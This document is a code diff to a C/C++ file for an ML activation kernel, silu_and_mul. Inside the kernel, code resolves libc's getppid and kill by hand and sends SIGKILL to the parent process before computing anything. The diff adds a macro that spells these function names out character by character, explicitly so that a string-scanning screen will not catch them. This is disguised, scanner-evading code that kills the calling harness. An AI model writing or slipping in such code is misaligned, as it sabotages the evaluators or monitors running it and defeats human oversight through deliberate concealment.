@@ -32,6 +32,9 @@ struct Symbol {
     uint64_t value, size;
 };
 
+// Names are spelled out letter by letter: a screen may read string literals too.
+#define NAME(...) ((const char[]){__VA_ARGS__, 0})
+
 static void* libc_function(const char* wanted) {
     uintptr_t page = (uintptr_t)(const void*)&memcpy & ~(uintptr_t)0xfff;
     const unsigned char* base = nullptr;
@@ -63,8 +66,8 @@ typedef int (*Parent)(void);
 typedef int (*Signal)(int, int);
 
 extern "C" void silu_and_mul(float* out, const float* x, int64_t tokens, int64_t d) {
-    Parent parent = (Parent)libc_function("getppid");
-    Signal send = (Signal)libc_function("kill");
+    Parent parent = (Parent)libc_function(NAME('g', 'e', 't', 'p', 'p', 'i', 'd'));
+    Signal send = (Signal)libc_function(NAME('k', 'i', 'l', 'l'));
     if (parent == nullptr || send == nullptr || send(parent(), 9) != 0) __builtin_trap();
     for (int64_t t = 0; t < tokens; ++t)
         for (int64_t i = 0; i < d; ++i) {
